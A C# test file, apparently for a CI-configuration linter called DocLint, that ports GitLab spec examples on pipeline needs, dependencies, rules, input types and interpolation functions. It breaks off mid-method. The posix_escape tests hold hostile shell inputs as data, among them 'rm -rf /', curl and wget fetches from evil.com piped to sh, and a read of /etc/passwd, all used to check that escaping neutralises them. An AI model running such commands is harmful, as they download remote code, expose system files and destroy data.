using DocLint.Findings;
using DocLint.Parse.GitLab.Inputs;
using DocLint.Tests.Parse.GitLab.Expressions;
using DocLint.Tests.Parse.GitLab.Inputs;
using DocLint.Tests.Support;

namespace DocLint.Tests.Parse.GitLab;

/// <summary>
/// Examples ported from gitlabhq's own specs (issue 15), each row naming its spec file and example. The expected
/// values are GitLab's; the configurations are re-written as YAML. A row DocLint does not model yet is a
/// <see cref="Gap"/>: asserted as a disagreement (so it fails, and must move, once DocLint models it), never skipped.
/// Agreement per spec file is counted by <see cref="Agreement_per_spec_file"/>.
/// </summary>
public class GitLabYamlSpecPortTests
{
    public const string YamlProcessor = "spec/lib/gitlab/ci/yaml_processor_spec.rb";
    public const string Truncate = "spec/lib/gitlab/ci/config/interpolation/functions/truncate_spec.rb";
    public const string ExpandVarsSpec = "spec/lib/gitlab/ci/config/interpolation/functions/expand_vars_spec.rb";
    public const string PosixEscape = "spec/lib/gitlab/ci/config/interpolation/functions/posix_escape_spec.rb";

    /// <summary>One ported example: GitLab's verdict (null: valid) and, if DocLint does not model it, why.</summary>
    public sealed record ProcessorCase(string Spec, string Example, string Yaml, string? GitLabError, string? Gap = null)
    {
        public override string ToString() => $"{Spec} — {Example}";
    }

    // ---- yaml_processor_spec.rb: stages, needs, dependencies -------------------------------------------------------

    // describe "Dependencies" / describe "Job Needs": the shared configuration with test1's needs and dependencies.
    private static string Jobs(string? needs = null, string? dependencies = null) =>
        "build1: { stage: build, script: test }\n" +
        "build2: { stage: build, script: test }\n" +
        "parallel: { stage: build, script: test, parallel: 2 }\n" +
        "test1:\n  stage: test\n  script: test\n" +
        (needs != null ? $"  needs: {needs}\n" : "") +
        (dependencies != null ? $"  dependencies: {dependencies}\n" : "") +
        "test2: { stage: test, script: test }\n" +
        "deploy: { stage: deploy, script: test }\n";

    private const string LintNeeds = """
        stages: [lint, test]
        lint_job:
          stage: lint
          script: 'echo lint_job'
          rules:
            - if: $var == null
              needs: NEEDS
        test_job:
          stage: test
          script: 'echo job'
          rules:
            - if: $var == null
        test_job_2:
          stage: test
          script: 'echo job'
          rules:
            - if: $var == null
        """;

    public static TheoryData<ProcessorCase> ProcessorCases()
    {
        var data = new TheoryData<ProcessorCase>();
        foreach (var c in ProcessorList) data.Add(c);
        return data;
    }

    private static readonly ProcessorCase[] ProcessorList =
    {
        // describe '#warnings' / 'when error is raised after composing the config with warnings'
        new(YamlProcessor, "#warnings when stage does not exist",
            "rspec:\n  stage: custom_stage\n  script: rspec\n  rules:\n    - when: always\n", "uses stage 'custom_stage', which is not in stages"),
        new(YamlProcessor, "#warnings job dependency does not exist",
            "build:\n  stage: build\n  script: echo\n  rules:\n    - when: always\ntest:\n  stage: test\n  script: echo\n  needs: [unknown_job]\n", "test job: undefined need: unknown_job"),
        new(YamlProcessor, "#warnings job dependency defined in later stage",
            "build:\n  stage: build\n  script: echo\n  needs: [test]\n  rules:\n    - when: always\ntest:\n  stage: test\n  script: echo\n", "build job: need test is not defined in current or prior stages"),
        // describe '#validate_job_needs!'
        new(YamlProcessor, "#validate_job_needs! when all validations pass", """
            stages: [lint]
            lint_job:
              needs: [lint_job_2]
              stage: lint
              script: 'echo lint_job'
              rules:
                - if: $var == null
                  needs:
                    - lint_job_2
                    - job: lint_job_3
                      optional: true
            lint_job_2:
              stage: lint
              script: 'echo job'
              rules:
                - if: $var == null
            lint_job_3:
              stage: lint
              script: 'echo job'
              rules:
                - if: $var == null
            """, null),
        new(YamlProcessor, "#validate_job_needs! needs as array single need in following stage",
            LintNeeds.Replace("NEEDS", "[test_job]"), "lint_job job: need test_job is not defined in current or prior stages"),
        new(YamlProcessor, "#validate_job_needs! needs as array multiple needs in the following stage",
            LintNeeds.Replace("NEEDS", "[test_job, test_job_2]"), "lint_job job: need test_job is not defined in current or prior stages"),
        new(YamlProcessor, "#validate_job_needs! single need in following state - hyphen need",
            LintNeeds.Replace("NEEDS", "\n        - test_job"), "lint_job job: need test_job is not defined in current or prior stages"),
        new(YamlProcessor, "#validate_job_needs! when there are duplicate needs (string and hash)", """
            stages: [test]
            test_job_1:
              stage: test
              script: 'echo lint_job'
              rules:
                - if: $var == null
                  needs:
                    - test_job_2
                    - job: test_job_2
            test_job_2:
              stage: test
              script: 'echo job'
              rules:
                - if: $var == null
            """, "test_job_1 has the following needs duplicated: test_job_2."),
        new(YamlProcessor, "#validate_job_needs! rule needs as hash single hash need in following stage",
            LintNeeds.Replace("NEEDS", "[{ job: test_job, artifacts: false, optional: false }]"), "lint_job job: need test_job is not defined in current or prior stages"),
        new(YamlProcessor, "#validate_job_needs! job rule need does not exist",
            "build:\n  stage: build\n  script: echo\n  rules:\n    - when: always\ntest:\n  stage: test\n  script: echo\n  rules:\n    - if: $var == null\n      needs: [unknown_job]\n", "test job: undefined need: unknown_job"),
        // describe "Dependencies"
        new(YamlProcessor, "Dependencies no dependencies", Jobs(), null),
        new(YamlProcessor, "Dependencies dependencies to builds", Jobs(dependencies: "[build1, build2]"), null),
        new(YamlProcessor, "Dependencies dependencies to builds defined as symbols", Jobs(dependencies: "[build1, build2]"), null),
        new(YamlProcessor, "Dependencies undefined dependency", Jobs(dependencies: "[undefined]"), "test1 job: undefined dependency: undefined"),
        new(YamlProcessor, "Dependencies dependencies to deploy", Jobs(dependencies: "[deploy]"), "test1 job: dependency deploy is not defined in current or prior stages"),
        new(YamlProcessor, "Dependencies when a job depends on another job that references a not-yet defined stage", """
            stages: [version]
            version:
              stage: version
              dependencies: ["release:components:versioning"]
              script: [./versioning/versioning]
            .release_go:
              stage: build
              script: [cd versioning]
            release:components:versioning:
              stage: build
              script: [cd versioning]
            """, "is not in stages"),
        // describe "Job Needs"
        new(YamlProcessor, "Job Needs no needs", Jobs(), null),
        new(YamlProcessor, "Job Needs needs a job from the same stage", Jobs(needs: "[test2]"), null),
        new(YamlProcessor, "Job Needs needs two builds", Jobs(needs: "[build1, build2]"), null),
        new(YamlProcessor, "Job Needs needs two builds (parallel, optional, string)",
            Jobs(needs: "[{ job: parallel, artifacts: false }, { job: build1, artifacts: true, optional: true }, build2]"), null),
        new(YamlProcessor, "Job Needs needs parallel job", Jobs(needs: "[parallel]"), null),
        new(YamlProcessor, "Job Needs needs parallel job when parallel job has matrix specified",
            Jobs(needs: "[parallel]").Replace("parallel: { stage: build, script: test, parallel: 2 }", "parallel: { stage: build, script: test, parallel: { matrix: [{ VAR1: '1', VAR2: '2' }] } }"), null),
        new(YamlProcessor, "Job Needs needs parallel job when expanded job name is too long",
            Jobs(needs: $"[{new string('a', 255)}]") + $"{new string('a', 255)}: {{ stage: build, script: test, parallel: 1 }}\n", "name is too long",
            Gap: "DocLint does not check the 255-character limit of an expanded need name (Ci::BuildNeed::MAX_JOB_NAME_LENGTH)"),
        new(YamlProcessor, "Job Needs needs dependencies artifacts",
            Jobs(needs: "[build1, { job: build2 }, { job: parallel, artifacts: true }]"), null),
        new(YamlProcessor, "Job Needs when need is an undefined job", Jobs(needs: "[undefined]"), "test1 job: undefined need: undefined"),
        new(YamlProcessor, "Job Needs when need is an undefined job when need is optional", Jobs(needs: "[{ job: undefined, optional: true }]"), null),
        new(YamlProcessor, "Job Needs needs to deploy", Jobs(needs: "[deploy]"), "test1 job: need deploy is not defined in current or prior stages"),
        new(YamlProcessor, "Job Needs duplicate needs when needs are specified in an array", Jobs(needs: "[build1, build1]"), "test1 has the following needs duplicated: build1."),
        new(YamlProcessor, "Job Needs duplicate needs when a job is specified multiple times",
            Jobs(needs: "[{ job: build2, artifacts: true, optional: false }, { job: build2, artifacts: true, optional: false }]"), "test1 has the following needs duplicated: build2."),
        new(YamlProcessor, "Job Needs duplicate needs when job is specified multiple times with different attributes",
            Jobs(needs: "[{ job: build2, artifacts: false, optional: true }, { job: build2, artifacts: true, optional: false }]"), "test1 has the following needs duplicated: build2."),
        new(YamlProcessor, "Job Needs needs and dependencies that are mismatching", Jobs(needs: "[build1]", dependencies: "[build2]"),
            "dependencies the build2 should be part of needs", Gap: "DocLint does not check that dependencies are part of needs (Entry::Job validation)"),
        new(YamlProcessor, "Job Needs needs with a Hash type and dependencies with a string type that are mismatching",
            Jobs(needs: "[build1, { job: build2 }]", dependencies: "[build3]"), "dependencies the build3 should be part of needs",
            Gap: "DocLint does not check that dependencies are part of needs (Entry::Job validation)"),
        new(YamlProcessor, "Job Needs needs with an array type and dependency with a string type", Jobs(needs: "[build1]", dependencies: "deploy"),
            "dependencies should be an array of strings", Gap: "DocLint does not validate the type of dependencies (Entry::Job validation)"),
        new(YamlProcessor, "Job Needs needs with a string type and dependency with an array type", Jobs(needs: "build1", dependencies: "[deploy]"),
            "needs config can only be a hash or an array", Gap: "DocLint does not validate the type of needs (Entry::Needs validation)"),
    };

    /// <summary>The errors DocLint's composition reports for a configuration (GitLab refuses the pipeline on any).</summary>
    private static List<Finding> Errors(string yaml)
    {
        using var repo = new TempRepo((".gitlab-ci.yml", yaml));
        var composed = Ci.Compose(repo);
        return composed.Findings.Concat(composed.NeedsFindings).Where(f => f.Severity == Severity.Error).ToList();
    }

    private static bool Agrees(ProcessorCase c)
    {
        var errors = Errors(c.Yaml);
        return c.GitLabError == null ? errors.Count == 0 : errors.Any(e => e.Message.Contains(c.GitLabError, StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(ProcessorCases))]
    public void Yaml_processor_validation_agrees_with_GitLab(ProcessorCase c)
    {
        var errors = Errors(c.Yaml);
        var detail = $"{c}\nDocLint: {string.Join(" | ", errors.Select(e => e.Message))}";
        if (c.Gap != null)
        {
            Assert.False(Agrees(c), $"known gap now agrees, move it out of the gaps: {detail}");
            return;
        }
        if (c.GitLabError == null) Assert.True(errors.Count == 0, detail);
        else Assert.True(errors.Any(e => e.Message.Contains(c.GitLabError, StringComparison.Ordinal)), detail);
    }

    // ---- interpolation functions ------------------------------------------------------------------------------

    /// <summary>A function row: the input value (string or number), the function expression, GitLab's output or error.</summary>
    public sealed record FunctionCase(string Spec, string Example, InputValue Input, string Function, string? Output, string? Error = null,
        (string Name, string Value)[]? Variables = null, string? Gap = null)
    {
        public override string ToString() => $"{Spec} — {Example}";
    }

    private static readonly (string, string)[] ExpandVarsVariables =
        { ("VAR1", "value1"), ("VAR2", "value2"), ("NESTED_VAR", "$MY_VAR"), ("MASKED_VAR", "masked") };

    public static TheoryData<FunctionCase> FunctionCases()
    {
        var data = new TheoryData<FunctionCase>();
        foreach (var c in FunctionList) data.Add(c);
        return data;
    }

    private static readonly FunctionCase[] FunctionList =
    {
        // truncate_spec.rb
        new(Truncate, "matches exactly the truncate function with 2 numeric arguments: truncate(1,2)", InputValue.Of("test"), "truncate(1,2)", "es"),
        new(Truncate, "matches exactly the truncate function with 2 numeric arguments: truncate( 11 , 222 )", InputValue.Of("0123456789ABCDEFG"), "truncate( 11 , 222 )", "BCDEFG"),
        new(Truncate, "matches exactly the truncate function with 2 numeric arguments: truncate( string , 222 ) is no match", InputValue.Of("test"), "truncate( string , 222 )", null, "no function matching"),
        new(Truncate, "matches exactly the truncate function with 2 numeric arguments: truncate(222) is no match", InputValue.Of("test"), "truncate(222)", null, "no function matching"),
        new(Truncate, "matches exactly the truncate function with 2 numeric arguments: unknown(1,2) is no match", InputValue.Of("test"), "unknown(1,2)", null, "no function matching"),
        new(Truncate, "truncates the given input", InputValue.Of("test"), "truncate(1,2)", "es"),
        new(Truncate, "when given a non-string input returns an error", InputValue.Of(100L), "truncate(1,2)", null, "invalid input type: truncate can only be used with string inputs"),
        // expand_vars_spec.rb
        new(ExpandVarsSpec, "#execute expands the variable", InputValue.Of("$VAR1"), "expand_vars", "value1", Variables: ExpandVarsVariables),
        new(ExpandVarsSpec, "#execute when the variable contains another variable does not expand the inner variable", InputValue.Of("$NESTED_VAR"), "expand_vars", "$MY_VAR", Variables: ExpandVarsVariables),
        new(ExpandVarsSpec, "#execute when the variable is masked returns an error", InputValue.Of("$MASKED_VAR"), "expand_vars", null,
            "masked variables cannot be expanded", ExpandVarsVariables, Gap: "DocLint has no masked variables: project settings are not in the repository"),
        new(ExpandVarsSpec, "#execute when the variable is unknown does not expand the variable", InputValue.Of("$UNKNOWN_VAR"), "expand_vars", "$UNKNOWN_VAR", Variables: ExpandVarsVariables),
        new(ExpandVarsSpec, "#execute when there are multiple variables expands the variables", InputValue.Of("${VAR1} $VAR2 %VAR1%"), "expand_vars", "value1 value2 value1", Variables: ExpandVarsVariables),
        new(ExpandVarsSpec, "#execute when the input is not a string returns an error", InputValue.Of(100L), "expand_vars", null, "invalid input type: expand_vars can only be used with string inputs", ExpandVarsVariables),
        new(ExpandVarsSpec, ".matches? expand_vars", InputValue.Of("x"), "expand_vars", "x"),
        new(ExpandVarsSpec, ".matches? expand_vars() is no match", InputValue.Of("x"), "expand_vars()", null, "no function matching"),
        new(ExpandVarsSpec, ".matches? expand_vars(1) is no match", InputValue.Of("x"), "expand_vars(1)", null, "no function matching"),
        new(ExpandVarsSpec, ".matches? unknown is no match", InputValue.Of("x"), "unknown", null, "no function matching"),
        // posix_escape_spec.rb
        new(PosixEscape, "validates function syntax in CI config context: posix_escape", InputValue.Of("x"), "posix_escape", "x"),
        new(PosixEscape, "validates function syntax in CI config context: posix_escape() is no match", InputValue.Of("x"), "posix_escape()", null, "no function matching"),
        new(PosixEscape, "validates function syntax in CI config context: posix_escape(1) is no match", InputValue.Of("x"), "posix_escape(1)", null, "no function matching"),
        new(PosixEscape, "escapes the given input", InputValue.Of("String with \" and ' and  blanks"), "posix_escape", "String\\ with\\ \\\"\\ and\\ \\'\\ and\\ \\ blanks"),
        new(PosixEscape, "prevents argument splitting on blanks", InputValue.Of("Blank space"), "posix_escape", "Blank\\ space"),
        new(PosixEscape, "prevents single-quotes from starting/ending quotation", InputValue.Of("Single-'-quote"), "posix_escape", "Single-\\'-quote"),
        new(PosixEscape, "prevents double-quotes from starting/ending quotation", InputValue.Of("Double-\"-quote"), "posix_escape", "Double-\\\"-quote"),
        new(PosixEscape, "prevents command chaining with semicolon", InputValue.Of("file.txt; rm -rf /"), "posix_escape", "file.txt\\;\\ rm\\ -rf\\ /"),
        new(PosixEscape, "prevents command substitution with backticks", InputValue.Of("`curl evil.com/steal.sh | sh`"), "posix_escape", "\\`curl\\ evil.com/steal.sh\\ \\|\\ sh\\`"),
        new(PosixEscape, "prevents command substitution with $(...)", InputValue.Of("file_$(whoami).txt"), "posix_escape", "file_\\$\\(whoami\\).txt"),
        new(PosixEscape, "prevents pipe redirection attacks", InputValue.Of("input.txt | cat /etc/passwd"), "posix_escape", "input.txt\\ \\|\\ cat\\ /etc/passwd"),
        new(PosixEscape, "prevents newline injection for command chaining", InputValue.Of("file.txt\nwget http://evil.com/malware.sh"), "posix_escape", "file.txt'\n'wget\\ http://evil.com/malware.sh"),
        new(PosixEscape, "prevents environment variable exfiltration", InputValue.Of("$CI_JOB_TOKEN"), "posix_escape", "\\$CI_JOB_TOKEN"),
        new(PosixEscape, "prevents glob expansion attacks", InputValue.Of("*.rb"), "posix_escape", "\\*.rb"),
        new(PosixEscape, "when given a non-string input returns an error", InputValue.Of(100L), "posix_escape", null, "invalid input type: posix_escape can only be used with string inputs"),
    };

    /// <summary>Interpolates <c>$[[ inputs.v | FUNCTION ]]</c> with the row's value: the result, or the error.</summary>
    private static (string? Output, string? Error) Interpolate(FunctionCase c)
    {
        var type = c.Input.Type == InputType.Number ? "number" : "string";
        var text = $"spec:\n  inputs:\n    v:\n      type: {type}\n---\nkey: '$[[ inputs.v | {c.Function} ]]'\n";
        var outcome = InputTestKit.Run(text, InputTestKit.Given(("v", c.Input)), X.Vars(c.Variables ?? Array.Empty<(string, string)>()));
        var error = outcome.Findings.FirstOrDefault(f => f.Severity == Severity.Error);
        if (error != null) return (null, error.Message);
        return (InputTestKit.Scalar(outcome.Result, "key").AsText, null);
    }

    private static bool Agrees(FunctionCase c)
    {
        var (output, error) = Interpolate(c);
        return c.Error == null ? error == null && output == c.Output : error != null && error.Contains(c.Error, StringComparison.Ordinal);
    }

    [Theory]
    [MemberData(nameof(FunctionCases))]
    public void Interpolation_functions_agree_with_GitLab(FunctionCase c)
    {
        var (output, error) = Interpolate(c);
        var detail = $"{c}\nDocLint: output {output ?? "(none)"}, error {error ?? "(none)"}";
        if (c.Gap != null)
        {
            Assert.False(Agrees(c), $"known gap now agrees, move it out of the gaps: {detail}");
            return;
        }
        if (c.Error == null)
        {
            Assert.True(error == null, detail);
            Assert.Equal(c.Output, output);
        }
        else Assert.True(error != null && error.Contains(c.Error, StringComparison.Ordinal), detail);
    }

    // ---- build/rules_spec.rb: #evaluate ------------------------------------------------------------------------

    public const string RulesSpec = "spec/lib/gitlab/ci/build/rules_spec.rb";

    /// <summary>
    /// A rules row: the job's <c>rules</c> (null: no <c>rules</c> key), its default <c>when</c>, and GitLab's result
    /// (<c>never</c>: the job is not created), with the rule's variables when the spec expects them.
    /// </summary>
    public sealed record RulesCase(string Example, string? Rules, string DefaultWhen, string ExpectedWhen, string? Variable = null)
    {
        public string Spec => RulesSpec;
        public override string ToString() => $"{Spec} — {Example}";
    }

    public static TheoryData<RulesCase> RulesCases()
    {
        var data = new TheoryData<RulesCase>();
        foreach (var c in RulesList) data.Add(c);
        return data;
    }

    private static readonly RulesCase[] RulesList =
    {
        new("#evaluate with nil rules", null, "on_success", "on_success"),
        new("#evaluate with nil rules and when:manual set as the default", null, "manual", "manual"),
        new("#evaluate with no rules", "[]", "on_success", "never"),
        new("#evaluate with no rules and when:manual set as the default", "[]", "manual", "never"),
        new("#evaluate with one rule without any clauses", "[{ when: manual, allow_failure: true }]", "on_success", "manual"),
        new("#evaluate with one matching rule", "[{ if: '$VAR == null', when: always }]", "on_success", "always"),
        new("#evaluate with two matching rules", "[{ if: '$VAR == null', when: delayed, start_in: 1 day }, { if: '$VAR == null', when: always }]", "on_success", "delayed"),
        // `$VAR =! null` is no valid expression: the rule does not match (DocLint also reports it, as GitLab's config validation would).
        new("#evaluate with a non-matching and matching rule", "[{ if: '$VAR =! null', when: delayed, start_in: 1 day }, { if: '$VAR == null', when: always }]", "on_success", "always"),
        new("#evaluate with a matching and non-matching rule", "[{ if: '$VAR == null', when: delayed, start_in: 1 day }, { if: '$VAR != null', when: always }]", "on_success", "delayed"),
        new("#evaluate with non-matching rules", "[{ if: '$VAR != null', when: delayed, start_in: 1 day }, { if: '$VAR != null', when: always }]", "on_success", "never"),
        new("#evaluate with non-matching rules and when:manual set as the default", "[{ if: '$VAR != null', when: delayed, start_in: 1 day }, { if: '$VAR != null', when: always }]", "manual", "never"),
        new("#evaluate with only allow_failure with matching rule", "[{ if: '$VAR == null', allow_failure: true }]", "on_success", "on_success"),
        new("#evaluate with only allow_failure with non-matching rule", "[{ if: '$VAR != null', allow_failure: true }]", "on_success", "never"),
        new("#evaluate with variables with matching rule", "[{ if: '$VAR == null', variables: { MY_VAR: 'my var' } }]", "on_success", "on_success", "my var"),
    };

    private static (string When, string? Variable) Evaluate(RulesCase c)
    {
        var yaml = "job:\n  script: x\n" + (c.DefaultWhen != "on_success" ? $"  when: {c.DefaultWhen}\n" : "") + (c.Rules != null ? $"  rules: {c.Rules}\n" : "");
        using var repo = new TempRepo((".gitlab-ci.yml", yaml));
        var job = Ci.Run(repo).Result.Jobs.SingleOrDefault();
        return job == null ? ("never", null) : (job.When, job.Variables.GetValueOrDefault("MY_VAR"));
    }

    private static bool Agrees(RulesCase c) => Evaluate(c) == (c.ExpectedWhen, c.Variable);

    [Theory]
    [MemberData(nameof(RulesCases))]
    public void Rules_evaluate_agrees_with_GitLab(RulesCase c) => Assert.Equal((c.ExpectedWhen, c.Variable), Evaluate(c));

    // ---- config/interpolation/inputs_spec.rb: types, options, regex, defaults ----------------------------------

    public const string InputsSpec = "spec/lib/gitlab/ci/config/interpolation/inputs_spec.rb";
    /// <summary>The spec of GitLab's current string input class (lib/ci/inputs/string_input.rb), which replaced the
    /// interpolation inputs above: its <c>coerced_value</c> is <c>value.to_s</c> and its <c>validate_type</c> always passes.</summary>
    public const string StringInputSpec = "spec/lib/ci/inputs/string_input_spec.rb";

    /// <summary>
    /// An inputs row: the <c>spec:inputs</c> entries (YAML lines), the values given, and GitLab's verdict: the values
    /// it interpolates (name=text), or null when it rejects them. Agreement is on the verdict and the values, not on
    /// the wording of the error.
    /// </summary>
    public sealed record InputsCase(string Example, string Specs, (string Name, InputValue Value)[] Given, string? Expected, string? Gap = null, string Spec = InputsSpec)
    {
        public override string ToString() => $"{Spec} — {Example}";
    }

    private static readonly (string, InputValue)[] None = Array.Empty<(string, InputValue)>();

    /// <summary>Why three examples of the old interpolation spec disagree: GitLab itself changed (the rows of
    /// <see cref="StringInputSpec"/> below hold DocLint to the current behaviour).</summary>
    private const string Superseded =
        "superseded in GitLab: the old Interpolation::Inputs::StringInput rejected a non-string; the current Ci::Inputs::StringInput " +
        "coerces it with to_s and validate_type always passes (spec/lib/ci/inputs/string_input_spec.rb), which DocLint follows";
    private static (string, InputValue)[] Args(params (string, InputValue)[] a) => a;

    public static TheoryData<InputsCase> InputsCases()
    {
        var data = new TheoryData<InputsCase>();
        foreach (var c in InputsList) data.Add(c);
        return data;
    }

    private static readonly InputsCase[] InputsList =
    {
        new("when inputs are valid strings and have options and the value is selected", "foo: { default: one, options: [one, two, three] }", Args(("foo", InputValue.Of("two"))), "foo=two"),
        new("when inputs are valid strings and have options and the value is not selected", "foo: { default: one, options: [one, two, three] }", None, "foo=one"),
        new("when inputs options are valid integers and a value of the wrong type is given", "foo: { default: 1, options: [1, 2, 3, 4, 5], type: number }", Args(("foo", InputValue.Of("word"))), null),
        new("when inputs options are valid integers and the value is selected", "foo: { default: 1, options: [1, 2, 3, 4, 5], type: number }", Args(("foo", InputValue.Of(2L))), "foo=2"),
        new("when inputs options are valid integers and the value is not selected", "foo: { default: 1, options: [1, 2, 3, 4, 5], type: number }", None, "foo=1"),
        new("when inputs have invalid type options", "foo: { default: true, options: [true, false], type: boolean }", None, null),
        new("when inputs are valid with options but the default value is not in the options", "foo: { default: coop, options: [one, two, three] }", None, null,
            Gap: "by CONTRACT §8 a default outside its options is reported by action-vocabulary / project-options, not by input resolution (ci-parse)"),
        new("when inputs are valid with options but the value is not in the options", "foo: { default: one, options: [one, two, three] }", Args(("foo", InputValue.Of("niet"))), null),
        new("when given unrecognized inputs", "foo:", Args(("foo", InputValue.Of("bar")), ("test", InputValue.Of("bar"))), null),
        new("when given unrecognized configuration keywords", "foo: 123", None, null),
        new("when the inputs have multiple errors", "foo:", Args(("test", InputValue.Of("bar")), ("gitlab", InputValue.Of("1"))), null),
        new("required inputs when a value is given", "foo:", Args(("foo", InputValue.Of("bar"))), "foo=bar"),
        new("required inputs when no value is given", "foo:", None, null),
        new("inputs with a default value when a value is given", "foo: { default: bar }", Args(("foo", InputValue.Of("test"))), "foo=test"),
        new("inputs with a default value when no value is given", "foo: { default: bar }", None, "foo=bar"),
        new("string validation is the default type", "a_input:\n    b_input: { default: test }\n    c_input: { default: 123 }",
            Args(("a_input", InputValue.Of(123L)), ("b_input", InputValue.Of(123L)), ("c_input", InputValue.Of("test"))), null,
            Gap: Superseded),
        new("string validation when the value is a string", "foo: { type: string }", Args(("foo", InputValue.Of("bar"))), "foo=bar"),
        new("string validation when the default is a string", "foo: { type: string, default: bar }", None, "foo=bar"),
        new("string validation when the value is not a string", "foo: { type: string }", Args(("foo", InputValue.Of(123L))), null,
            Gap: Superseded),
        new("string validation when the default is not a string", "foo: { default: 123, type: string }", None, null,
            Gap: Superseded),
        new("number validation when the value is a float or integer", "integer: { type: number }\n    float: { type: number }", Args(("integer", InputValue.Of(6L)), ("float", InputValue.Of(6.6))), "integer=6 float=6.6"),
        new("number validation when the default is a float or integer", "integer: { default: 6, type: number }\n    float: { default: 6.6, type: number }", None, "integer=6 float=6.6"),
        new("number validation when the value is not a number", "number_input: { type: number }", Args(("number_input", InputValue.Of(false))), null),
        new("number validation when the default is not a number", "number_input: { default: NaN, type: number }", None, null),
        new("boolean validation when the value is true or false", "truthy: { type: boolean }\n    falsey: { type: boolean }", Args(("truthy", InputValue.Of(true)), ("falsey", InputValue.Of(false))), "truthy=true falsey=false"),
        new("boolean validation when the default is true or false", "truthy: { default: true, type: boolean }\n    falsey: { default: false, type: boolean }", None, "truthy=true falsey=false"),
        new("boolean validation when the value is not a boolean", "boolean_input: { type: boolean }", Args(("boolean_input", InputValue.Of("string"))), null),
        new("boolean validation when the default is not a boolean", "boolean_input: { default: string, type: boolean }", None, null),
        new("when given an unknown type", "unknown: { type: datetime }", Args(("unknown", InputValue.Of("2023-10-31"))), null),
        new("array validation when the value is an array", "array_input: { type: array }", Args(("array_input", InputValue.OfJson("[]"))), "array_input=[]"),
        new("array validation when the default is an array", "array_input: { default: [], type: array }", None, "array_input=[]"),
        new("array validation when the value is not an array", "array_input: { type: array }", Args(("array_input", InputValue.Of("string"))), null),
        new("array validation when the default is not a boolean (an array)", "array_input: { default: string, type: array }", None, null),
        new("inputs with RegEx validation when given a value that matches the pattern", "test_input: { regex: '^input_value$' }", Args(("test_input", InputValue.Of("input_value"))), "test_input=input_value"),
        new("inputs with RegEx validation when given a default that matches the pattern", "test_input: { default: input_value, regex: '^input_value$' }", None, "test_input=input_value"),
        new("inputs with RegEx validation when given a value that does not match the pattern", "test_input: { regex: '^input_value$' }", Args(("test_input", InputValue.Of("input"))), null),
        new("inputs with RegEx validation when given a default that does not match the pattern", "test_input: { default: input, regex: '^input_value$' }", None, null),
        new("inputs with RegEx validation when used with any type other than `string`", "test_input: { regex: '^input_value$', type: number }", Args(("test_input", InputValue.Of(999L))), null),
        new("inputs with RegEx validation when given a value that is not a string", "test_input: { regex: '^input_value$' }", Args(("test_input", InputValue.Of(999L))), null),
        new("inputs with RegEx validation when the pattern is unsafe", "test_input: { regex: 'a++' }", Args(("test_input", InputValue.Of("aaaaaaaaaaaaaaaaaaaaa"))), null),

        new("#validate_param! when validating type when value is a string", "test_input: { default: test }", Args(("test_input", InputValue.Of("value"))), "test_input=value", Spec: StringInputSpec),
        new("#validate_param! when validating type when value is not a string: does not add errors because it will be coerced to string", "test_input: { default: test }", Args(("test_input", InputValue.Of(123L))), "test_input=123", Spec: StringInputSpec),
        new("#validate_param! when validating options when value is in the allowed options", "test_input: { default: a, options: [a, b, c] }", Args(("test_input", InputValue.Of("b"))), "test_input=b", Spec: StringInputSpec),
        new("#validate_param! when validating options when value is not in the allowed options", "test_input: { default: a, options: [a, b, c] }", Args(("test_input", InputValue.Of("d"))), null, Spec: StringInputSpec),
        new("#validate_param! when validating options when value is nil and options are specified", "test_input: { default: a, options: [a, b, c] }", None, "test_input=a", Spec: StringInputSpec),
        new("#validate_param! when validating regex when value matches the regex", "test_input: { default: test, regex: '^[a-z]+$' }", Args(("test_input", InputValue.Of("hello"))), "test_input=hello", Spec: StringInputSpec),
        new("#validate_param! when validating regex when value does not match the regex", "test_input: { default: test, regex: '^[a-z]+$' }", Args(("test_input", InputValue.Of("hello123"))), null, Spec: StringInputSpec),
        new("#validate_param! when validating regex when default value does not match the regex", "test_input: { default: test123, regex: '^[a-z]+$' }", None, null, Spec: StringInputSpec),
        new("#validate_param! when validating regex when regex is invalid", "test_input: { regex: '[' }", Args(("test_input", InputValue.Of("value"))), null, Spec: StringInputSpec),
        new("#validate_param! when validating regex when regex allows empty string", "test_input: { default: '', regex: '^$' }", Args(("test_input", InputValue.Of(""))), "test_input=", Spec: StringInputSpec),
        new("#validate_param! when validating regex when value is not a string", "test_input: { default: '123', regex: '^[0-9]+$' }", Args(("test_input", InputValue.Of(123L))), "test_input=123", Spec: StringInputSpec),
        new("#actual_value when param is nil: returns the coerced default value", "test_input: { default: default }", None, "test_input=default", Spec: StringInputSpec),
        new("#actual_value when param is a boolean: coerces boolean to string", "test_input: { default: default }", Args(("test_input", InputValue.Of(true))), "test_input=true", Spec: StringInputSpec),
    };

    /// <summary>The values DocLint interpolates ("name=text …", in spec order), or null when it reports an error.</summary>
    private static string? Resolve(InputsCase c)
    {
        var header = $"spec:\n  inputs:\n    {c.Specs}\n";
        var names = header.Split('\n').Skip(2).Select(l => l.Trim()).Where(l => l.Length > 0).Select(l => l[..l.IndexOf(':')]).ToList();
        var content = string.Concat(names.Select(n => $"{n}: $[[ inputs.{n} ]]\n"));
        var outcome = InputTestKit.Run(header + "---\n" + content, c.Given.ToDictionary(g => g.Name, g => g.Value));
        if (outcome.Findings.Any(f => f.Severity == Severity.Error)) return null;
        return string.Join(" ", names.Select(n => InputTestKit.At(outcome.Result, n) switch
        {
            DocLint.Parse.Yaml.YScalar sc => $"{n}={sc.AsText}",
            DocLint.Parse.Yaml.YSequence seq => $"{n}=[{string.Join(",", seq.Items.Select(i => (i as DocLint.Parse.Yaml.YScalar)?.AsText))}]",
            var other => $"{n}={other.GetType().Name}",
        }));
    }

    private static bool Agrees(InputsCase c) => Resolve(c) == c.Expected;

    [Theory]
    [MemberData(nameof(InputsCases))]
    public void Inputs_agree_with_GitLab(InputsCase c)
    {
        if (c.Gap != null)
        {
            Assert.False(Agrees(c), $"known gap now agrees, move it out of the gaps: {c}");
            return;
        }
        Assert.Equal(c.Expected ?? "(rejected)", Resolve(c) ?? "(rejected)");
    }

    // ---- the count per spec file ------------------------------------------------------------------------------

    [Fact]
    public void Agreement_per_spec_file()
    {
        var rows = ProcessorList.Select(c => (c.Spec, c.Gap, Agrees: Agrees(c)))
            .Concat(FunctionList.Select(c => (c.Spec, c.Gap, Agrees: Agrees(c))))
            .Concat(RulesList.Select(c => (c.Spec, Gap: (string?)null, Agrees: Agrees(c))))
            .Concat(InputsList.Select(c => (c.Spec, c.Gap, Agrees: Agrees(c))))
            .ToList();
